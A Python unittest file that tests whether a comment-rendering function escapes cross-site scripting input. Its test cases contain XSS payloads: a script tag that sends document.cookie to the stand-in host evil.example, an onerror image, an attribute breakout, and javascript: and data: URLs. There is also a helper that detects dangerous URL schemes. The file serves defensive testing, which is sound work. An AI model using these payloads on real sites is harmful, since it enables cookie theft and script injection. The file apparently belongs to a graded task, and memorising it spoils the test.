import html.parser
import unittest

import solution


class _Scan(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.event_attrs = []
        self.hrefs = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for name, value in attrs:
            if name.lower().startswith("on"):
                self.event_attrs.append(name)
            if name.lower() in ("href", "src", "action", "formaction"):
                self.hrefs.append(value or "")


def _scan(comments):
    scan = _Scan()
    scan.feed(solution.render_comments(comments))
    return scan


def _dangerous_scheme(url):
    cleaned = "".join(ch for ch in url if ch.isprintable() and not ch.isspace()).lower()
    return cleaned.startswith(("javascript:", "data:", "vbscript:"))


class RenderCommentsSecurity(unittest.TestCase):
    def test_script_in_text(self):
        scan = _scan([{"author": "eve", "url": "", "text": "<script>fetch('//evil.example/?c='+document.cookie)</script>"}])
        self.assertNotIn("script", scan.tags)

    def test_markup_in_author(self):
        scan = _scan([{"author": '<img src=x onerror="alert(1)">', "url": "", "text": "hi"}])
        self.assertNotIn("img", scan.tags)
        self.assertEqual(scan.event_attrs, [])

    def test_attribute_breakout_in_url(self):
        scan = _scan([{"author": "eve", "url": 'https://eve.example/" onmouseover="alert(1)', "text": "hi"}])
        self.assertEqual(scan.event_attrs, [])

    def test_javascript_url_is_not_linked(self):
        for url in ("javascript:alert(document.domain)", " JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>"):
            scan = _scan([{"author": "eve", "url": url, "text": "hi"}])
            self.assertFalse(any(_dangerous_scheme(h) for h in scan.hrefs), url)


if __name__ == "__main__":
    unittest.main()
